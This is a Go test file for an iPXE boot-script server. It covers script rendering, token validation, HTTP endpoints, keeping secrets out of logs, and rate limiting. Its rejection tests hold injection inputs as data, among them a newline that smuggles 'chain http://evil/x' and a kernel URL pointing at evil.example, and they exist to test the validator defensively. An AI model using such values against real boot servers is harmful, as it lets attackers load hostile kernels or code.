package httpboot

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"anvil.dev/anvil/pxe"
)

func mustMAC(t testing.TB, s string) net.HardwareAddr {
	t.Helper()
	m, err := net.ParseMAC(s)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestBootScript(t *testing.T) {
	spec := BootSpec{
		KernelURL:  "http://10.0.0.1/artifacts/vmlinuz",
		InitrdURLs: []string{"/artifacts/initrd.img", "http://10.0.0.1/artifacts/extra.cpio"},
		Args:       []string{"console=ttyS0", "ignition.config.url=http://10.0.0.1/config/a?b=c&d=e", "quiet"},
	}
	got, err := BootScript(spec)
	if err != nil {
		t.Fatal(err)
	}
	want := "#!ipxe\n" +
		"kernel http://10.0.0.1/artifacts/vmlinuz initrd=initrd0 initrd=initrd1 console=ttyS0 ignition.config.url=http://10.0.0.1/config/a?b=c&d=e quiet\n" +
		"initrd --name initrd0 /artifacts/initrd.img\n" +
		"initrd --name initrd1 http://10.0.0.1/artifacts/extra.cpio\n" +
		"boot\n"
	if string(got) != want {
		t.Fatalf("script:\n%s\nwant:\n%s", got, want)
	}

	bad := map[string]BootSpec{
		"newline injects a command": {KernelURL: spec.KernelURL, Args: []string{"a\nchain http://evil/x"}},
		"space splits the argument": {KernelURL: spec.KernelURL, Args: []string{"a b"}},
		"tab":                       {KernelURL: spec.KernelURL, Args: []string{"a\tb"}},
		"settings expansion":        {KernelURL: spec.KernelURL, Args: []string{"x=${net0/ip}"}},
		"comment":                   {KernelURL: spec.KernelURL, Args: []string{"#rest"}},
		"or":                        {KernelURL: spec.KernelURL, Args: []string{"||"}},
		"and":                       {KernelURL: spec.KernelURL, Args: []string{"&&"}},
		"semicolon":                 {KernelURL: spec.KernelURL, Args: []string{";"}},
		"empty arg":                 {KernelURL: spec.KernelURL, Args: []string{""}},
		"nul":                       {KernelURL: spec.KernelURL, Args: []string{"a\x00b"}},
		"no kernel":                 {},
		"relative kernel":           {KernelURL: "vmlinuz"},
		"scheme-relative kernel":    {KernelURL: "//evil.example/vmlinuz"},
		"ftp kernel":                {KernelURL: "ftp://10.0.0.1/vmlinuz"},
		"initrd with space":         {KernelURL: spec.KernelURL, InitrdURLs: []string{"http://10.0.0.1/a b"}},
	}
	for name, s := range bad {
		if out, err := BootScript(s); err == nil || !errors.Is(err, ErrUnsafeToken) {
			t.Errorf("%s: err=%v, script:\n%s", name, err, out)
		}
	}
}

// FuzzBootScript: whatever the arguments, an accepted script has exactly
// the four expected command lines and each argument is one iPXE token.
func FuzzBootScript(f *testing.F) {
	for _, s := range []string{"console=ttyS0", "a b", "a\nb", "${x}", "#", "||", "x=\"y z\""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, arg string) {
		out, err := BootScript(BootSpec{KernelURL: "http://h/k", InitrdURLs: []string{"http://h/i"}, Args: []string{arg}})
		if err != nil {
			return
		}
		lines := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
		if len(lines) != 4 || lines[3] != "boot" {
			t.Fatalf("arg %q produced %d lines:\n%s", arg, len(lines), out)
		}
		if fields := strings.Fields(lines[1]); len(fields) != 4 || fields[3] != arg {
			t.Fatalf("arg %q did not stay one token: %q", arg, lines[1])
		}
	})
}

func TestUnknownHostScript(t *testing.T) {
	got := string(UnknownHostScript(mustMAC(t, "52-54-00-AB-CD-EF"), 10*time.Second))
	want := "#!ipxe\necho Anvil: MAC 52:54:00:ab:cd:ef is not registered or not accepted, retrying in 10 seconds\nsleep 10\nchain --replace --autofree /boot/52:54:00:ab:cd:ef.ipxe\n"
	if got != want {
		t.Fatalf("got:\n%s\nwant:\n%s", got, want)
	}
}

type specCounter struct {
	calls atomic.Int32
	err   error
}

func (s *specCounter) BootSpec(_ context.Context, h pxe.HostRecord) (BootSpec, error) {
	s.calls.Add(1)
	if s.err != nil {
		return BootSpec{}, s.err
	}
	return BootSpec{KernelURL: "/artifacts/" + h.Name + "/vmlinuz", InitrdURLs: []string{"/artifacts/" + h.Name + "/initrd"}, Args: []string{"console=ttyS0"}}, nil
}

func TestScriptEndpoint(t *testing.T) {
	backend := pxe.NewStaticBackend(
		pxe.HostRecord{Name: "pxe", MAC: mustMAC(t, "52:54:00:00:00:01"), PXE: true, Accepted: true},
		pxe.HostRecord{Name: "disk", MAC: mustMAC(t, "52:54:00:00:00:02"), PXE: false, Accepted: true},
		pxe.HostRecord{Name: "pending", MAC: mustMAC(t, "52:54:00:00:00:03"), PXE: true, Accepted: false},
		pxe.HostRecord{Name: "broken", MAC: mustMAC(t, "52:54:00:00:00:04"), PXE: true, Accepted: true},
	)
	specs := &specCounter{}
	scripts, err := NewScripts(ScriptOptions{Backend: backend, BootSpecs: BootSpecFunc(func(ctx context.Context, h pxe.HostRecord) (BootSpec, error) {
		if h.Name == "broken" {
			return BootSpec{}, errors.New("machine class not found")
		}
		return specs.BootSpec(ctx, h)
	})})
	if err != nil {
		t.Fatal(err)
	}
	var seen ScriptRequest
	src := ScriptSourceFunc(func(ctx context.Context, req ScriptRequest) ([]byte, error) {
		seen = req
		return scripts.Script(ctx, req)
	})
	s := newTestServer(t, Options{Scripts: src})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	tests := []struct {
		name, path string
		code       int
		contains   []string
	}{
		{"pxe host", "/boot/52:54:00:00:00:01.ipxe", 200, []string{"#!ipxe\n", "kernel /artifacts/pxe/vmlinuz initrd=initrd0 console=ttyS0\n", "initrd --name initrd0 /artifacts/pxe/initrd\n", "boot\n"}},
		{"hyphenated mac", "/boot/52-54-00-00-00-01.ipxe", 200, []string{"kernel /artifacts/pxe/vmlinuz"}},
		{"not meant to pxe boot", "/boot/52:54:00:00:00:02.ipxe", 200, []string{"#!ipxe\n", "\nexit 1\n"}},
		{"unknown", "/boot/52:54:00:00:00:99.ipxe", 200, []string{"echo Anvil: MAC 52:54:00:00:00:99 is not registered", "sleep 10\n", "chain --replace --autofree /boot/52:54:00:00:00:99.ipxe\n"}},
		{"not accepted", "/boot/52:54:00:00:00:03.ipxe", 200, []string{"not registered or not accepted", "sleep 10"}},
		{"boot spec error", "/boot/52:54:00:00:00:04.ipxe", 500, nil},
		{"bad mac", "/boot/nonsense.ipxe", 404, nil},
		{"no suffix", "/boot/52:54:00:00:00:01", 404, nil},
		{"eui64 is not a boot mac", "/boot/52:54:00:00:00:01:02:03.ipxe", 404, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, err := http.Get(ts.URL + tt.path)
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != tt.code {
				t.Fatalf("status %d, want %d: %s", resp.StatusCode, tt.code, body)
			}
			for _, c := range tt.contains {
				if !strings.Contains(string(body), c) {
					t.Errorf("body lacks %q:\n%s", c, body)
				}
			}
			if tt.code == 200 {
				if cc := resp.Header.Get("Cache-Control"); cc != "no-store" {
					t.Errorf("Cache-Control %q", cc)
				}
				if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/plain") {
					t.Errorf("Content-Type %q", resp.Header.Get("Content-Type"))
				}
			}
		})
	}
	if !seen.RemoteAddr.Addr().IsLoopback() || seen.RemoteAddr.Port() == 0 {
		t.Errorf("ScriptRequest.RemoteAddr = %v", seen.RemoteAddr)
	}

	// HEAD must not render (and so not consume a one-time credential).
	before := specs.calls.Load()
	resp, err := http.Head(ts.URL + "/boot/52:54:00:00:00:01.ipxe")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed || specs.calls.Load() != before {
		t.Fatalf("HEAD: status %d, renders %d->%d", resp.StatusCode, before, specs.calls.Load())
	}
}

func TestScriptSecretsNotLogged(t *testing.T) {
	const secret = "s3cr3t-one-time-credential"
	logs := &logSink{}
	src := ScriptSourceFunc(func(_ context.Context, req ScriptRequest) ([]byte, error) {
		if req.MAC.String() == "52:54:00:00:00:02" {
			return nil, errors.New("credential store unavailable")
		}
		return []byte("#!ipxe\nchain http://x/config?token=" + secret + "\n"), nil
	})
	s := newTestServer(t, Options{Scripts: src, Logger: logs.logger()})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	for _, p := range []string{"/boot/52:54:00:00:00:01.ipxe?token=" + secret, "/boot/52:54:00:00:00:02.ipxe?token=" + secret} {
		resp, err := http.Get(ts.URL + p)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	out := logs.String()
	if strings.Contains(out, secret) {
		t.Fatalf("secret in logs:\n%s", out)
	}
	if !strings.Contains(out, `"path"="/boot/52:54:00:00:00:01.ipxe"`) {
		t.Fatalf("access log line missing:\n%s", out)
	}
}

// TestScriptRateLimited: a ScriptSource refusing a source that asks too
// often gets it a 429 with Retry-After, not a 500.
func TestScriptRateLimited(t *testing.T) {
	src := ScriptSourceFunc(func(context.Context, ScriptRequest) ([]byte, error) {
		return nil, fmt.Errorf("from 127.0.0.1: %w", ErrRateLimited)
	})
	s := newTestServer(t, Options{Scripts: src})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	resp, err := http.Get(ts.URL + "/boot/52:54:00:00:00:01.ipxe")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" {
		t.Fatalf("status %d, Retry-After %q; want 429 with Retry-After", resp.StatusCode, resp.Header.Get("Retry-After"))
	}
}
